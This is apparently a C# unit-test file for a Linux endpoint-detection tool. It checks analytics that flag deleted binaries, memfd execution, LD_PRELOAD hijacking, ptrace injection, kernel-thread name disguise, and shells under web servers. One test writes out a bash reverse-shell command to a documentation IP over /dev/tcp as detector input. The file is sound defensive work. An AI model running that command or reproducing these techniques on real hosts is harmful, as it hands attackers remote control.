using Atalaya.Core.Analytics;
using Atalaya.Core.Schema;

namespace Atalaya.Core.Tests.Analytics;

/// <summary>The process-integrity analytics on events shaped like the Linux sensors' output.</summary>
public sealed class ProcessIntegrityAnalyticsTests
{
    private static ProcessBehaviourCatalog Catalog => TestCatalog.Processes();

    private static EcsEvent Exec(string executable, string? name = null, string[]? args = null, AtalayaProcessFields? facts = null,
        IReadOnlyList<string>? env = null, ProcessFields? parent = null, string kind = EventKinds.Event, string type = EventTypes.Start)
    {
        var e = SampleEvents.Process(executable, name, kind: kind, type: type);
        var arguments = args ?? [executable];
        return e with
        {
            Process = e.Process! with
            {
                Args = arguments,
                ArgsCount = arguments.Length,
                CommandLine = string.Join(' ', arguments),
                EnvVars = env,
                Parent = parent ?? new ProcessFields { Pid = 1, Name = "systemd", Executable = "/usr/lib/systemd/systemd" },
            },
            Atalaya = facts is null ? null : new AtalayaFields { Process = facts },
        };
    }

    private static List<Signal> Run(IAnalytic analytic, params EcsEvent[] events)
    {
        var sink = new ListSink();
        foreach (var e in events)
        {
            analytic.Observe(e, sink);
        }

        return sink.Signals;
    }

    [Fact]
    public void Deleted_binary_in_tmp_is_high_and_reported_once_per_process()
    {
        var e = Exec("/tmp/x/payload", facts: new AtalayaProcessFields { ExecutableDeleted = true });
        var signal = Assert.Single(Run(new DeletedExecutableAnalytic(), e, e with { Event = e.Event with { Kind = EventKinds.State } }));
        Assert.Equal("atalaya.analytic.deleted-executable.user-writable", signal.SourceId);
        Assert.Equal(["T1070.004", "T1036"], signal.Techniques);
        Assert.True(signal.Contribution >= 60);
    }

    [Fact]
    public void Deleted_system_binary_in_a_snapshot_is_the_package_upgrade_case_and_stays_benign()
    {
        var e = Exec("/usr/sbin/sshd", kind: EventKinds.State, type: EventTypes.Info, facts: new AtalayaProcessFields { ExecutableDeleted = true });
        var signal = Assert.Single(Run(new DeletedExecutableAnalytic(), e));
        Assert.True(signal.Contribution < 25);
    }

    [Fact]
    public void Deleted_binary_already_gone_at_exec_outside_system_paths_is_high()
    {
        var e = Exec("/srv/app/run", facts: new AtalayaProcessFields { ExecutableDeleted = true });
        Assert.Equal("atalaya.analytic.deleted-executable.at-exec", Assert.Single(Run(new DeletedExecutableAnalytic(), e)).SourceId);
    }

    [Fact]
    public void Present_binaries_memfds_and_ends_are_not_deleted_binaries()
    {
        Assert.Empty(Run(new DeletedExecutableAnalytic(),
            Exec("/usr/bin/sleep", facts: new AtalayaProcessFields { ExecutableDeleted = false }),
            Exec("/memfd:x", facts: new AtalayaProcessFields { ExecutableDeleted = true, Fileless = true }),
            Exec("/tmp/x", type: EventTypes.End, facts: new AtalayaProcessFields { ExecutableDeleted = true })));
    }

    [Fact]
    public void Memfd_execution_is_high_and_runc_is_allowed()
    {
        var signal = Assert.Single(Run(new FilelessExecutionAnalytic(Catalog), Exec("/memfd:payload", facts: new AtalayaProcessFields { Fileless = true })));
        Assert.Equal("atalaya.analytic.fileless-execution.memfd", signal.SourceId);
        Assert.Equal(["T1620"], signal.Techniques);
        Assert.True(signal.Contribution >= 75);

        Assert.Empty(Run(new FilelessExecutionAnalytic(Catalog), Exec("/memfd:runc_cloned:/proc/self/exe (deleted)"), Exec("/usr/bin/sleep")));
        Assert.Equal("atalaya.analytic.fileless-execution.shm", Assert.Single(Run(new FilelessExecutionAnalytic(Catalog), Exec("/dev/shm/x"))).SourceId);
    }

    [Fact]
    public void Ld_preload_from_tmp_is_high_system_preload_is_low_and_allowed_tools_are_quiet()
    {
        var high = Assert.Single(Run(new LdPreloadAnalytic(Catalog), Exec("/usr/bin/sleep", env: ["LD_PRELOAD=/tmp/.x/libhide.so"])));
        Assert.Equal("atalaya.analytic.ld-preload.preload-user-writable", high.SourceId);
        Assert.Equal(["T1574.006"], high.Techniques);
        Assert.True(high.Contribution >= 70);

        var low = Assert.Single(Run(new LdPreloadAnalytic(Catalog), Exec("/usr/bin/sleep", env: ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsomething.so"])));
        Assert.True(low.Contribution < 30);

        Assert.Empty(Run(new LdPreloadAnalytic(Catalog),
            Exec("/usr/bin/dpkg", env: ["LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libfakeroot/libfakeroot-sysv.so"]),
            Exec("/usr/bin/sleep", env: ["LD_PRELOAD="]),
            Exec("/usr/bin/sleep", env: ["LD_LIBRARY_PATH=/opt/app/lib"])));
    }

    [Fact]
    public void Several_preloaded_libraries_and_temporary_library_paths_each_count()
    {
        var signals = Run(new LdPreloadAnalytic(Catalog),
            Exec("/usr/bin/sleep", env: ["LD_PRELOAD=/tmp/a.so:/dev/shm/b.so libc.so.6", "LD_LIBRARY_PATH=/tmp/lib:/usr/lib"]));
        Assert.Equal(["preload-user-writable", "preload-user-writable", "preload-user-writable", "library-path"], signals.Select(s => s.SourceId.Split('.').Last()));
    }

    [Fact]
    public void Mapped_libraries_from_tmp_weigh_more_than_from_home()
    {
        var signals = Run(new LdPreloadAnalytic(Catalog), Exec("/usr/bin/sleep",
            facts: new AtalayaProcessFields { WritablePathLibraries = ["/tmp/libx.so", "/home/ana/miniconda/lib/libz.so.1"] }));
        Assert.Equal(["mapped-temporary", "mapped-user-writable"], signals.Select(s => s.SourceId.Split('.').Last()));
        Assert.True(signals[0].Contribution > 60 && signals[1].Contribution < 25);
    }

    [Fact]
    public void Ptrace_by_an_unknown_program_is_high_by_a_debugger_low_and_by_an_ancestor_nothing()
    {
        var injected = Exec("/usr/sbin/sshd", facts: new AtalayaProcessFields { TracerPid = 900, TracerExecutable = "/usr/bin/python3.11" });
        var high = Assert.Single(Run(new PtraceAttachAnalytic(Catalog), injected));
        Assert.Equal("atalaya.analytic.ptrace-attach.attach", high.SourceId);
        Assert.Equal(["T1055.008"], high.Techniques);
        Assert.Contains("/usr/bin/python3.11", high.Detail, StringComparison.Ordinal);

        var tmp = Exec("/usr/sbin/sshd", facts: new AtalayaProcessFields { TracerPid = 901, TracerExecutable = "/tmp/inj" });
        Assert.Equal("atalaya.analytic.ptrace-attach.user-writable-tracer", Assert.Single(Run(new PtraceAttachAnalytic(Catalog), tmp)).SourceId);

        var gdb = Exec("/usr/bin/app", facts: new AtalayaProcessFields { TracerPid = 902, TracerExecutable = "/usr/bin/gdb" });
        Assert.True(Assert.Single(Run(new PtraceAttachAnalytic(Catalog), gdb)).Contribution < 25);

        var straceChild = Exec("/usr/bin/ls", parent: new ProcessFields { Pid = 903, Executable = "/usr/bin/strace" },
            facts: new AtalayaProcessFields { TracerPid = 903, TracerExecutable = "/usr/bin/strace" });
        var notTraced = Exec("/usr/bin/ls", facts: new AtalayaProcessFields());
        Assert.Empty(Run(new PtraceAttachAnalytic(Catalog), straceChild, notTraced));
    }

    [Fact]
    public void Anonymous_executable_memory_counts_outside_jit_runtimes()
    {
        var signal = Assert.Single(Run(new AnonymousExecutableMemoryAnalytic(Catalog),
            Exec("/usr/sbin/sshd", facts: new AtalayaProcessFields { AnonymousExecutableRegions = 1 })));
        Assert.Equal(["T1055"], signal.Techniques);
        Assert.Empty(Run(new AnonymousExecutableMemoryAnalytic(Catalog),
            Exec("/usr/lib/jvm/java-17/bin/java", facts: new AtalayaProcessFields { AnonymousExecutableRegions = 12 }),
            Exec("/usr/bin/node", facts: new AtalayaProcessFields { AnonymousExecutableRegions = 3 }),
            Exec("/usr/sbin/sshd", facts: new AtalayaProcessFields { AnonymousExecutableRegions = 0 })));
    }

    [Theory]
    [InlineData("/usr/bin/sleep", "sleep", "[kworker/0:1]", "argv0")]
    [InlineData("/tmp/.x/miner", "kworker/0:1", "/tmp/.x/miner", "comm")]
    [InlineData("/tmp/.x/miner", "[kthreadd]", "miner", "argv0")]
    public void Kernel_thread_names_on_a_program_with_an_executable_are_disguise(string executable, string name, string argv0, string aspect)
    {
        var signal = Assert.Single(Run(new KernelThreadDisguiseAnalytic(), Exec(executable, name, [argv0 == "miner" ? "[kthreadd]" : argv0])));
        Assert.Equal($"atalaya.analytic.kernel-thread-disguise.{aspect}", signal.SourceId);
        Assert.Equal(["T1036.004"], signal.Techniques);
    }

    [Fact]
    public void Real_kernel_threads_and_the_bracket_program_are_not_disguise()
    {
        var kthread = SampleEvents.Process("/x", "kworker/0:1") is var e ? e with { Process = e.Process! with { Executable = null, Args = [] } } : null;
        Assert.Empty(Run(new KernelThreadDisguiseAnalytic(), kthread!, Exec("/usr/bin/[", "[", ["[", "-f", "x", "]"]), Exec("/usr/bin/sleep")));
    }

    [Fact]
    public void Hidden_process_is_high()
    {
        var signal = Assert.Single(Run(new HiddenProcessAnalytic(), Exec("/usr/bin/sleep", facts: new AtalayaProcessFields { Hidden = true })));
        Assert.Equal(["T1014"], signal.Techniques);
        Assert.True(signal.Contribution >= 80);
        Assert.Empty(Run(new HiddenProcessAnalytic(), Exec("/usr/bin/sleep", facts: new AtalayaProcessFields())));
    }

    [Fact]
    public void Shell_under_a_web_server_is_flagged_and_under_a_terminal_is_not()
    {
        var web = Exec("/usr/bin/dash", "sh", ["sh", "-c", "id"], parent: new ProcessFields { Pid = 80, Name = "nginx", Executable = "/usr/sbin/nginx" });
        var signal = Assert.Single(Run(new ServiceShellAnalytic(Catalog), web));
        Assert.Equal(["T1059.004"], signal.Techniques);
        Assert.Contains("nginx", signal.Detail, StringComparison.Ordinal);

        var php = Exec("/usr/bin/bash", args: ["bash"], parent: new ProcessFields { Pid = 81, Name = "php-fpm8.2", Executable = "/usr/sbin/php-fpm8.2" });
        Assert.Single(Run(new ServiceShellAnalytic(Catalog), php));

        var terminal = Exec("/usr/bin/bash", parent: new ProcessFields { Pid = 82, Name = "sshd", Executable = "/usr/sbin/sshd" });
        var notShell = Exec("/usr/bin/convert", parent: new ProcessFields { Pid = 83, Name = "apache2", Executable = "/usr/sbin/apache2" });
        Assert.Empty(Run(new ServiceShellAnalytic(Catalog), terminal, notShell));
    }

    [Fact]
    public void Dev_tcp_socket_and_pipe_inputs_are_flagged_by_weight()
    {
        var devTcp = Assert.Single(Run(new InterpreterInputAnalytic(Catalog), Exec("/usr/bin/bash", args: ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"])));
        Assert.Equal("atalaya.analytic.interpreter-input.dev-tcp", devTcp.SourceId);

        var socket = Assert.Single(Run(new InterpreterInputAnalytic(Catalog), Exec("/usr/bin/bash", args: ["bash", "-i"], facts: new AtalayaProcessFields { StdinType = "socket" })));
        Assert.True(socket.Contribution >= 60);

        var pipe = Assert.Single(Run(new InterpreterInputAnalytic(Catalog), Exec("/usr/bin/python3.11", args: ["python3", "-"], facts: new AtalayaProcessFields { StdinType = "pipe" })));
        Assert.InRange(pipe.Contribution, 25, 49);
    }

    [Fact]
    public void Scripts_from_files_or_arguments_ssh_sessions_and_terminals_are_not_flagged()
    {
        Assert.Empty(Run(new InterpreterInputAnalytic(Catalog),
            Exec("/usr/bin/bash", args: ["bash", "/opt/run.sh"], facts: new AtalayaProcessFields { StdinType = "pipe" }),
            Exec("/usr/bin/bash", args: ["bash", "-c", "echo hi"], facts: new AtalayaProcessFields { StdinType = "pipe" }),
            Exec("/usr/bin/bash", args: ["bash"], facts: new AtalayaProcessFields { StdinType = "tty" }),
            Exec("/usr/bin/bash", args: ["bash"], parent: new ProcessFields { Pid = 9, Name = "sshd", Executable = "/usr/sbin/sshd" }, facts: new AtalayaProcessFields { StdinType = "socket" }),
            Exec("/usr/bin/sleep", args: ["sleep"], facts: new AtalayaProcessFields { StdinType = "pipe" })));
    }

    [Fact]
    public void The_catalog_parses_and_rejects_bad_shapes()
    {
        Assert.True(Catalog.IsNetworkService("php-fpm8.2"));
        Assert.True(Catalog.IsJitRuntime("foo.dll"));
        Assert.False(Catalog.IsShell("sleep"));
        var error = Assert.Throws<CatalogException>(() => ProcessBehaviourCatalog.Parse("shells:\n  a: b\n"));
        Assert.Contains("line", error.Message, StringComparison.Ordinal);
        Assert.Throws<CatalogException>(() => ProcessBehaviourCatalog.Parse("- just\n- a list\n"));
    }
}
